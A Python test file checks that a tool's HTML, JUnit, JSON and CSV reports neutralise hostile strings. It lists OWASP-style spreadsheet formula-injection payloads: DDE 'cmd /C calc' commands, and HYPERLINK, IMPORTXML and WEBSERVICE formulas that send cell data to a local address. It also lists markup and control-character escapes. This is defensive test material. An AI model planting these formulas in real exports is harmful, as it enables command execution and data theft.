"""Public lists of bad texts as what cases ask and models answer: each report of them is what it should be."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from itertools import chain
from pathlib import Path

import pytest
import xmlschema

from synterm.formats.row_files import loud, quiet
from tests.cli.conftest import Synterm
from tests.conftest import MakeProject
from tests.reports.test_html_report import Read
from tests.security.payloads import CONTROLS, ESCAPES, MARKUP, acting, yaml_of
from tests.security.test_public_lists import naughty

FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "'=1+1",
        "''=1",
    ),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://127.0.0.1:9/"&A1)',
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
)
"""As OWASP and others list them."""
STARTS = "=+-@\t\r\n＝＋－＠"
SCHEMA = Path(__file__).parents[1] / "reports" / "junit.xsd"


@pytest.fixture
def texts() -> list[str]:
    controls = ["".join(CONTROLS[at : at + 8]) for at in range(0, len(CONTROLS), 8)]
    return [
        *naughty(),
        *FORMULAS,
        *chain(*ESCAPES.values()),
        *MARKUP,
        *controls,
        "]]>",
        "--><!--",
        "&#0;&#x1b;",
        "\ufffe\uffff",
    ]


@pytest.fixture
def path(make_project: MakeProject, texts: list[str]) -> Path:
    """A project whose cases ask these texts, and whose model answers each as another is expected."""
    rules = [{"match": f"number {at}:", "in": "user", "answer": text} for at, text in enumerate(texts)]
    cases = [{"input": {"message": f"number {at}: {text}"}, "expected": texts[-at]} for at, text in enumerate(texts)]
    scenario = {"scenario": "s", "checks": [{"type": "equals"}, {"type": "contains", "value": "x"}], "cases": cases}
    document = {
        "synterm": 1,
        "name": texts[3],
        "models": [{"name": "rules", "model": "scripted/rules", "params": {"rules": rules}}],
        "prompts": [{"name": "p", "messages": [{"role": "user", "content": "{{ message }}"}]}],
        "tree": [{"feature": "F", "behaviors": [{"behavior": "B", "scenarios": [scenario]}]}],
    }
    return make_project(yaml_of(document))


def test_every_report_of_them_is_what_it_should_be(
    path: Path, synterm: Synterm, tmp_path: Path, texts: list[str]
) -> None:
    files = {kind: tmp_path / f"out.{kind}" for kind in ("html", "junit", "comment", "json")}
    options = [word for kind, file in files.items() for word in (f"--{kind}", str(file))]
    done = synterm("run", path, *options)
    assert done.code in (0, 1), done.err
    assert not acting(done.out + done.err)

    xmlschema.XMLSchema(SCHEMA).validate(files["junit"])
    tests = ET.parse(files["junit"]).getroot().iter("testcase")
    assert len([test for test in tests if test.get("classname", "").startswith("F.B.s")]) == len(texts)

    page = Read(files["html"].read_text(encoding="utf-8"))
    assert {tag for tag, _ in page.elements} & {"iframe", "img", "object", "embed", "base", "audio", "video"} == set()
    assert len([tag for tag, _ in page.elements if tag == "script"]) == len(page.scripts)
    assert not any(name.startswith("on") for _, found in page.elements for name in found)
    assert not any(acting(text) for text in (*page.texts, *page.scripts))
    answers = {row["answer"] for row in page.rows if isinstance(row.get("answer"), str)}
    assert any("<script>" in answer for answer in answers), "as text they are there"

    for kind in ("comment", "json"):
        assert not acting(files[kind].read_text(encoding="utf-8")), kind
    made = json.loads(files["json"].read_text(encoding="utf-8"))["evaluations"]
    assert {one["output"] for one in made} >= {text for text in texts if text.strip()}, "as data they are as they were"


def test_no_cell_of_a_table_is_a_formula(path: Path, synterm: Synterm, tmp_path: Path, texts: list[str]) -> None:
    assert synterm("run", path, "--quiet").code in (0, 1)
    table = tmp_path / "open.csv"
    assert synterm("review", path, "--export", table, "--open", "--limit", str(len(texts))).code == 0
    rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"), newline="")))
    cells = {cell for row in rows for cell in row}
    assert [cell for cell in cells if cell[:1] in STARTS and cell] == []
    read = {quiet(cell) for cell in cells}
    assert read >= {text for text in FORMULAS if text.strip() == text}, "what reads it gets them as they were"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_comes_back(formula: str) -> None:
    assert loud(formula)[:1] not in STARTS
    assert quiet(loud(formula)) == formula
